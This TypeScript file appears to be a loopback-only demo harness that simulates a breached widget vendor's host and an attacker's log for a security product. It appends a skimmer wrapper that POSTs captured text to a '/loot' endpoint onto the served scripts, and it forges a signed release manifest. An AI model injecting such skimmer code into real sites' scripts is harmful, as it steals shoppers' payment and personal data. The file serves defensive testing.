/**
 * The other side of the shop's page about breaking in: the vendor's static host after a breach, and the
 * attacker's log. On loopback alone, in memory, capped; it sees nothing but the test card that the page
 * types by itself.
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import {
  type CurrentRelease,
  RELEASE_CONTEXT,
  type ReleaseStatement,
} from '../../protocol/releases.ts';
import { createKey, sign } from '../../tools/release/signing.ts';
import { LIVE_ATTACKS } from './live-attacks.ts';

export interface BreachHost {
  url: string;
  port: number;
  /** The tag of a page on which `side` is tried. @param tag the merchant's true one */
  conventionalTag(visit: string, attack: string): string;
  breachedTag(tag: string, vendorUrl: string, visit: string, attack: string): string;
  close(): Promise<void>;
}

interface Visit {
  control: string[];
  bulkhead: string[];
  /** What Bulkhead itself reported to vendor and merchant. */
  reports: string[];
}

const LINES_MOST = 60;
const LINE_LENGTH = 200;
const VISITS_MOST = 50;
const BODY_MOST = 4_000;
const WIDGET = new URL('./conventional-widget.js', import.meta.url);
const STATE = {
  site: { name: 'Halyard & Co', color: '#1f4fd8', greeting: 'Ahoy! Ask us anything.' },
  entries: [],
};

/** @param releasesDir what the vendor published; the attacker has it all. */
export async function startBreachHost(port: number, releasesDir: string): Promise<BreachHost> {
  const visits = new Map<string, Visit>();
  let latest: Visit | undefined;

  function visitOf(id: string): Visit {
    const visit = visits.get(id) ?? { control: [], bulkhead: [], reports: [] };
    visits.set(id, visit);
    for (const old of visits.keys()) if (visits.size > VISITS_MOST) visits.delete(old);
    latest = visit;
    return visit;
  }
  const keep = (lines: string[], text: string) => {
    if (lines.length < LINES_MOST) lines.push(text.slice(0, LINE_LENGTH));
  };
  const skimmer = (visit: string, side: 'control' | 'bulkhead', attack: string) => {
    const { code = '' } = LIVE_ATTACKS.find(({ id }) => id === attack) ?? {};
    const loot = JSON.stringify(`${host.url}/loot/${visit}/${side}`);
    return `;(() => { const steal = (text) => fetch(${loot}, { method: 'POST', mode: 'no-cors', body: text }); ${code} })();`;
  };

  /** The vendor's own files, but for the loader, which the attacker has changed. */
  function embedFile(visit: string, attack: string, file: string): string | undefined {
    const current: CurrentRelease = JSON.parse(
      readFileSync(path.join(releasesDir, 'current.json'), 'utf8'),
    );
    if (file === 'current.json') return JSON.stringify(forged(current));
    if (/^bootstrap\.[0-9a-f]{10}\.js$/.test(file))
      return readFileSync(path.join(releasesDir, file), 'utf8');
    const { version, files }: ReleaseStatement = JSON.parse(current.release.statement);
    const name = files.loader?.file ?? '';
    if (file !== `${version}/${name}`) return undefined;
    const original = readFileSync(path.join(releasesDir, version, name), 'utf8');
    return original + skimmer(visit, 'bulkhead', attack);
  }

  function answerTo(place: string): string | undefined {
    const [side = '', visit = '', attack = '', ...rest] = place.split('/').slice(1);
    if (!/^[\w-]{1,40}$/.test(visit)) return undefined;
    const file = rest.join('/');
    const known = visitOf(visit);
    if (side === 'log') return JSON.stringify(known);
    if (side === 'vendor' && rest[0] === 'embed')
      return embedFile(visit, attack, rest.slice(1).join('/'));
    if (side !== 'conventional') return undefined;
    if (file === 'widget.js')
      return readFileSync(WIDGET, 'utf8') + skimmer(visit, 'control', attack);
    if (file === 'state.json') return JSON.stringify(STATE);
    return file === 'current.json' ? '{}' : '';
  }

  async function take(request: IncomingMessage, place: string): Promise<void> {
    let body = '';
    for await (const chunk of request) if (body.length < BODY_MOST) body += chunk;
    const [, visit = '', side] = /^\/loot\/([\w-]{1,40})\/(control|bulkhead)$/.exec(place) ?? [];
    if (side === 'control' || side === 'bulkhead') return keep(visitOf(visit)[side], body);
    if (place !== '/api/reports' || !latest) return;
    const { kind = '', subject = '' }: { kind?: string; subject?: string } = JSON.parse(body);
    keep(latest.reports, `${kind} ${subject}`);
  }

  const server = createServer(async (request: IncomingMessage, response: ServerResponse) => {
    const place = URL.parse(request.url ?? '', 'http://localhost')?.pathname ?? '';
    let text: string | undefined = '';
    try {
      if (request.method === 'POST') await take(request, place);
      else text = answerTo(place);
    } catch {
      text = undefined;
    }
    const isScript = place.endsWith('.js');
    response.writeHead(text === undefined ? 404 : 200, {
      'access-control-allow-origin': '*',
      'cache-control': 'no-store',
      'content-type': isScript ? 'text/javascript; charset=utf-8' : 'application/json',
    });
    response.end(text);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', resolve);
  });
  const { port: taken } = server.address() as AddressInfo;
  const host: BreachHost = {
    url: `http://127.0.0.1:${taken}`,
    port: taken,
    conventionalTag: (visit, attack) =>
      `<script async src="${host.url}/conventional/${visit}/${attack}/widget.js"></script>`,
    breachedTag: (tag, vendorUrl, visit, attack) =>
      tag.replaceAll(`${vendorUrl}/embed/`, `${host.url}/vendor/${visit}/${attack}/embed/`),
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
  return host;
}

/** The statement of another loader, signed with keys that nobody gave the attacker: its own. */
function forged({ release, kills }: CurrentRelease): CurrentRelease {
  const statement = JSON.stringify({ ...JSON.parse(release.statement), sequence: 1_000_000 });
  const signatures = [createKey(), createKey()].map((key) => sign(RELEASE_CONTEXT, statement, key));
  return { release: { statement, signatures }, kills };
}
